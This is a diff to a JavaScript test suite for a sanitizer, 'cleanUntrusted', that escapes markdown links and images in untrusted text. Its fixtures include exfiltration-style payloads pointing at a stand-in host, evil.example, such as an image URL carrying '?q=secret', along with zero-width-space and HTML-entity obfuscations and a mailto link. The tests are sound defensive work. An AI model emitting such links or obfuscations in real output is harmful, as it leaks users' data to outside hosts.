@@ -32,7 +32,7 @@ describe('cleanUntrusted', () => {
     ['plain text', 'Budget 2026: 1,200 € (a < b, c > d, x <= y)\n\tnext'],
     ['indexing', 'x[1]: y and dict["a"]: 3, f(a)[0]:1'],
     ['an address in angle brackets', 'From: Ana Ruiz <ana.ruiz@contoso.com>'],
-    ['inline links', 'see [the plan](https://contoso.example/plan)'],
+    ['calls of what is indexed', 'handlers[0](event, x ? a : b) and m["k"](1) and [plan](plan.md#a)'],
     ['right-to-left text', 'שלום עולם مرحبا بالعالم'],
     ['Persian with its joiners', 'می\u200Cخواهم نامه\u200Cای'],
     ['Hindi with a joiner', 'क्\u200Dष'],
@@ -68,9 +68,18 @@ describe('cleanUntrusted', () => {
   });
 
   it.each([
-    ['![logo](https://evil.example/?q=secret)', '!\\[logo](https://evil.example/?q=secret)'],
+    ['![logo](https://evil.example/?q=secret)', '!\\[logo]\\(https://evil.example/?q=secret)'],
+    ['see [the plan](https://evil.example/plan)', 'see [the plan]\\(https://evil.example/plan)'],
+    ['[contoso.com](//evil.example)', '[contoso.com]\\(//evil.example)'],
+    ['[x](\n  HTTPS://evil.example "t")', '[x]\\(\n  HTTPS://evil.example "t")'],
+    ['[x](<https://evil.example>) [y](<&#104;ttps:x>)', '[x](‹https://evil.example›) [y]\\(<&#104;ttps:x>)'],
+    [
+      '[x](&#104;ttps://evil.example) [y](h&#116;tps:x)',
+      '[x]\\(&#104;ttps://evil.example) [y]\\(h&#116;tps:x)',
+    ],
+    ['[x]\u200B(mailto:it@evil.example)', '[x]\\(mailto:it@evil.example)'],
     ['![x][ref]\n\n[ref]: https://evil.example/a.png', '!\\[x][ref]\n\n[ref]\\: https://evil.example/a.png'],
-    ['!\u200B[x](https://evil.example)', '!\\[x](https://evil.example)'],
+    ['!\u200B[x](https://evil.example)', '!\\[x]\\(https://evil.example)'],
     ['> - [a]: <https://evil.example>', '> - [a]\\: ‹https://evil.example›'],
     ['   [multi\nline]: https://evil.example', '   [multi\nline]\\: https://evil.example'],
     ['[esc\\]aped]: &#104;ttps://evil.example', '[esc\\]aped]\\: &#104;ttps://evil.example'],
